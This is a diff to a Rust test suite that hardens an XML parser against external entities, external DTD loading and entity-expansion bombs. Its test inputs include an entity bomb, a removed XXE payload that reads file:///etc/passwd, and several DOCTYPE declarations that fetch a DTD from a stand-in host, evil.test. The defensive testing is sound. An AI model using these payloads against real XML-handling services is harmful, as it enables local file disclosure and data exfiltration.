@@ -45,7 +45,7 @@ fn documents_by_behaviour() {
             "",
             vec![],
         ),
-        ("a document type", "<!DOCTYPE a [<!ENTITY b '>'><!-- ] --> %c;]><a>1</a>", "1", vec![]),
+        ("a document type that is a name", "<!DOCTYPE a ><a>1</a>", "1", vec![]),
         ("names beyond ASCII", "<\u{e4}\u{b7} \u{3b1}:\u{3b2}='1'/>", "", vec!["1"]),
         ("a byte order mark", "\u{feff}<a>1</a>", "1", vec![]),
     ] {
@@ -130,10 +130,38 @@ fn entities_never_expand_and_what_is_around_them_is_read() {
     let bomb =
         "<!DOCTYPE a [<!ENTITY b 'bbbb'><!ENTITY c '&b;&b;&b;&b;'>]><a d='&c;1'>&c;2<e/></a>";
     let error = parse(bomb.as_bytes(), &Limits::default()).unwrap_err();
-    assert_eq!(error.fault, Fault::Entity);
+    assert_eq!(error.fault, Fault::DocumentType);
     assert_eq!(error.read, Xml { text: b"2".to_vec(), attributes: vec![b"1".to_vec()] });
-    let external = "<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a>&xxe;</a>";
-    assert_eq!(parsed(external.as_bytes()), Err(Fault::Entity));
+    assert_eq!(parsed(b"<a>1&xxe;2</a>"), Err(Fault::Entity));
+}
+
+/// Before, they passed: what is loaded tells its server, and no word of it is in the document.
+#[test]
+fn a_document_type_that_says_more_than_a_name_is_a_fault() {
+    for kind in [
+        "SYSTEM 'http://evil.test/x.dtd'",
+        "PUBLIC \"-//x\" 'http://evil.test/x.dtd' ",
+        "[<!ENTITY % b SYSTEM 'http://evil.test/x.dtd'> %b;]",
+        "[<!ENTITY b '>'><!-- ] --> %c;]",
+        "[<!ATTLIST a b CDATA 'x'>]",
+        "[]",
+    ] {
+        let body = format!("<!DOCTYPE a {kind}><a>1</a>");
+        let error = parse(body.as_bytes(), &Limits::default()).unwrap_err();
+        assert_eq!((error.fault, &*error.read.text), (Fault::DocumentType, &b"1"[..]), "{kind}");
+        // Also where a limit ends the reading.
+        let body = format!("<!DOCTYPE a {kind}><a><b/></a>");
+        let shallow = Limits { depth: 1, ..Limits::default() };
+        let fault = parse(body.as_bytes(), &shallow).unwrap_err().fault;
+        assert_eq!(fault, Fault::DocumentType, "{kind}");
+    }
+    for (body, fault) in [
+        ("<!DOCTYPE a", Fault::Incomplete),
+        ("<!DOCTYPE a [", Fault::Incomplete),
+        ("<!DOCTYPE a ]><a/>", Fault::Malformed("document type")),
+    ] {
+        assert_eq!(parsed(body.as_bytes()), Err(fault), "{body}");
+    }
 }
 
 #[test]
